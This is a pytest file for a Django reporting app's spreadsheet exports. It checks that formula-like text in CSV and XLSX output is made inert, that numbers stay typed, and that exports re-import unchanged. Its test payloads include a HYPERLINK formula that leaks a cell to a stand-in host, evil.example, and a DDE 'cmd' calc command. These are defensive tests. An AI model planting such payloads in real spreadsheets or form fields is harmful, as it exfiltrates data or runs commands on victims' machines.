"""Formula injection: every CSV and XLSX Placeboard writes makes formula-like text inert (OWASP), keeps
numbers numbers, and an export imported again changes nothing."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from placeboard.core import spreadsheets
from placeboard.core.models import Group, Organisation
from placeboard.engagement.models import EngagementActivity
from placeboard.imports import exporters, readers
from placeboard.imports.importers import import_file
from placeboard.performance.models import Indicator, Observation, ReportingRound
from placeboard.performance.periods import parse_period
from placeboard.performance.services import record_observation
from tests.performance.conftest import build_indicators

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]
ids = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


@pytest.fixture
def indicators(partnership):
    return build_indicators(partnership)


def xlsx_cells(data):
    """Every non-empty cell of every sheet, reloaded as a spreadsheet program would read the file."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def as_read_back(text):
    """XML turns a bare carriage return into a line feed, so in XLSX "\r=1" reads back as "\n=1" (still text)."""
    return text.replace("\r", "\n")


def assert_inert_in_xlsx(data, payload):
    core = payload.lstrip("\t\r")  # to find the cell even if it were mangled
    cells = [c for c in xlsx_cells(data) if isinstance(c.value, str) and c.value.endswith(core)]
    assert cells, f"{payload!r} not in the workbook"
    for cell in cells:
        assert cell.data_type == "s" and cell.value == as_read_back(payload), (cell.coordinate, cell.value)
        assert cell.quotePrefix  # as if typed with a leading ' in Excel: editing it does not make a formula
    assert not [c for c in xlsx_cells(data) if c.data_type == "f"]


def csv_rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_inert_in_csv(data, payload):
    cells = [c for row in csv_rows(data) for c in row if c.endswith(payload.lstrip("\t\r"))]
    assert cells, f"{payload!r} not in the CSV"
    assert all(c.startswith("'") and spreadsheets.restore(c) == payload for c in cells), cells


# The writer itself


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_formula_like_text_gets_a_quote_in_csv_and_restore_takes_it_off(payload):
    assert spreadsheets.csv_text(payload) == "'" + payload
    assert spreadsheets.restore(spreadsheets.csv_text(payload)) == payload
    # Text already quoted gains one more quote, so restore gives back exactly what was written.
    assert spreadsheets.restore(spreadsheets.csv_text("'" + payload)) == "'" + payload


def test_other_text_numbers_and_dates_are_written_as_they_are():
    texts = ["Café referrals up", "'tis the season", "", "a = b", "2006/07 Q1", "#N/A"]
    assert [spreadsheets.csv_text(t) for t in texts] == texts
    assert [spreadsheets.restore(t) for t in texts] == texts
    values = [-2.5, Decimal("-2.50"), -3, Decimal("57.400"), 0.1, datetime.date(2009, 5, 1), None]
    assert [spreadsheets.csv_text(v) for v in values] == ["-2.5", "-2.5", "-3", "57.4", "0.1", "2009-05-01", ""]


def test_csv_is_written_a_row_at_a_time():
    chunks = list(spreadsheets.iter_csv(([n, f"-{n}"] for n in range(3)), bom=True))
    assert chunks == ["\ufeff", "0,'-0\r\n", "1,'-1\r\n", "2,'-2\r\n"]


def test_xlsx_text_is_never_a_formula_and_numbers_and_dates_stay_typed():
    book = spreadsheets.Workbook()
    sheet = book.sheet("Sheet", widths=[20], freeze="A2")
    sheet.append(PAYLOADS + ["#N/A", "plain", -2.5, Decimal("-2.50"), Decimal("7"), datetime.date(2009, 5, 1)])
    cells = load_workbook(io.BytesIO(book.to_bytes())).active[1]
    assert [c.value for c in cells[:6]] == [as_read_back(p) for p in PAYLOADS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:6])
    assert (cells[6].value, cells[6].data_type) == ("#N/A", "s")  # not an error value
    assert (cells[7].value, cells[7].data_type, cells[7].quotePrefix) == ("plain", "s", False)
    assert [(c.value, c.data_type) for c in cells[8:11]] == [(-2.5, "n"), (-2.5, "n"), (7, "n")]
    assert cells[11].value == datetime.datetime(2009, 5, 1) and cells[11].is_date


def test_reader_takes_the_quote_off_csv_cells_only_where_the_writer_added_it():
    data = spreadsheets.csv_bytes([["note"], *[[p] for p in PAYLOADS], ["'tis"], ["''=x"]], bom=True)
    table = readers.read_table("notes.csv", data)
    assert [cells[0] for _, cells in table.rows] == PAYLOADS + ["'tis", "''=x"]


# Every writer the product has, end to end


def provider_writes(indicators, personas, payload, value=Decimal("26.8")):
    """A data provider's commentary on CYP 41 (led by Testshire Police), as entered on the site."""
    record_observation(indicator=indicators["reregistrations"], period=parse_period("2006/07 Q1"),
                       user=personas["provider"], value=value, note=payload)


def report(client, fmt):
    response = client.get(reverse("report", args=["testshire", "spreadsheet"]), {"format": fmt})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_performance_spreadsheet_report_xlsx_and_csv(as_user, personas, indicators, payload):
    provider_writes(indicators, personas, payload)
    client = as_user("officer")
    assert_inert_in_xlsx(report(client, "xlsx"), payload)
    assert_inert_in_csv(report(client, "csv"), payload)


def test_performance_spreadsheet_report_keeps_negative_numbers_numeric(as_user, personas, indicators):
    provider_writes(indicators, personas, "-2+3", value=Decimal("-2.5"))
    client = as_user("officer")
    values = [c.value for c in xlsx_cells(report(client, "xlsx"))]
    assert -2.5 in values and "-2.5" not in values
    cells = [c for row in csv_rows(report(client, "csv")) for c in row]
    assert "-2.5" in cells and "'-2+3" in cells


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_actuals_export_csv_and_xlsx(as_user, personas, indicators, payload):
    provider_writes(indicators, personas, payload, value=Decimal("-2.5"))
    client = as_user("officer")
    data = client.get(reverse("export_download", args=["testshire", "actuals", "csv"])).content
    assert_inert_in_csv(data, payload)
    row = next(r for r in csv_rows(data) if r[0] == "CYP 41")
    assert row[4] == "-2.5"  # a number, not quoted
    data = client.get(reverse("export_download", args=["testshire", "actuals", "xlsx"])).content
    assert_inert_in_xlsx(data, payload)
    assert any(c.value == -2.5 and c.data_type == "n" for c in xlsx_cells(data))


@pytest.mark.parametrize("kind", ["actuals", "targets", "indicators"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imported_again_changes_nothing(partnership, indicators, kind, fmt):
    # XML has no bare carriage return: the XLSX holds a line feed in its place (still inert text), so only
    # there does a note starting with one come back changed (the web forms strip it anyway).
    payloads = PAYLOADS if fmt == "csv" else [p for p in PAYLOADS if "\r" not in p]
    Observation.objects.filter(indicator__code="CYP 41").update(note=payloads[0], value=Decimal("-2.5"))
    for observation, payload in zip(Observation.objects.exclude(indicator__code="CYP 41").order_by("pk"),
                                    payloads[1:], strict=False):
        observation.note = payload
        observation.save()
    Indicator.objects.filter(code="NI 072").update(title="=1+1", definition="@risk", units="-")
    Indicator.objects.filter(code="CYP 41").update(value_type="score")  # a score may be below zero
    data, _, name = exporters.export(kind, partnership, fmt)
    plan = import_file(kind, partnership, name, data, None)
    assert plan.ok, plan.problems
    assert plan.created == plan.updated == 0 and plan.unchanged == plan.rows > 0
    assert Observation.objects.get(indicator__code="CYP 41").note == PAYLOADS[0]


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_data_return(as_user, personas, indicators, payload):
    provider_writes(indicators, personas, payload)
    Organisation.objects.filter(name="Testshire Police").update(name="=Testshire Police")
    round_ = ReportingRound(partnership=indicators["ni72"].partnership, name="@Q1 2006/07 report",
                            reporting_date="2006-06-30")
    round_.set_period(parse_period("2006/07 Q1"))
    round_.save()
    round_.groups.add(Group.objects.get(name="Safer Communities Group"))
    org = Organisation.objects.get(name="=Testshire Police")
    response = as_user("provider").get(reverse("return_template", args=["testshire"]),
                                       {"round": round_.pk, "organisation": org.pk})
    assert response.status_code == 200
    assert_inert_in_xlsx(response.content, payload)
    about = load_workbook(io.BytesIO(response.content))["How to fill this in"]["A1"]
    assert about.data_type == "s" and about.value.startswith("=Testshire Police: data return for @Q1")


@pytest.mark.parametrize("payload", PAYLOADS, ids=ids)
def test_engagement_csv_download(client, partnership, payload):
    EngagementActivity.objects.create(
        partnership=partnership, title=payload, organiser=Organisation.objects.get(name="Testshire Council"),
        method="survey", start_date=datetime.date(2009, 5, 1), end_date=datetime.date(2009, 5, 2),
        status="planned", description="-2+3", results="@SUM(1+1)")
    response = client.get(reverse("public_activities_download", args=["testshire", "csv"]))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert [r["title"] for r in rows] == ["'" + payload]
    assert (rows[0]["description"], rows[0]["results"]) == ("'-2+3", "'@SUM(1+1)")
    assert rows[0]["start_date"] == "2009-05-01" and rows[0]["id"].isdigit()


def test_a_figure_with_more_digits_than_a_float_keeps_is_written_exactly():
    from decimal import Decimal

    from placeboard.core.spreadsheets import xlsx_value

    assert xlsx_value(Decimal("12345678901234.123456")) == "12345678901234.123456"
    assert xlsx_value(Decimal("57.4")) == 57.4 and xlsx_value(Decimal("100.000")) == 100


def test_each_cell_keeps_its_own_style_when_styles_are_reused():
    """The workbook makes each style's format once and reuses it: every cell must still get the style it was
    given, a date its date format and formula-like text its quote, in any order."""
    red, green = "D4351C", "00703C"
    book = spreadsheets.Workbook()
    sheet = book.sheet("Sheet")
    given = [("a", red, True), ("b", green, True), ("=1+1", red, True), (datetime.date(2009, 5, 1), red, True),
             ("c", None, False), ("d", green, True), (datetime.date(2010, 1, 2), None, False), ("e", red, False)]
    sheet.append([sheet.cell(value, style=spreadsheets.Style(fill=fill, bold=bold, wrap=True))
                  for value, fill, bold in given])
    cells = next(load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows())
    for cell, (value, fill, bold) in zip(cells, given, strict=True):
        assert cell.fill.fgColor.rgb.endswith(fill) if fill else cell.fill.fill_type is None, value
        assert cell.font.b == bold, value
        assert cell.alignment.wrap_text, value
        assert cell.is_date == isinstance(value, datetime.date), value
        assert cell.quotePrefix == (value == "=1+1"), value
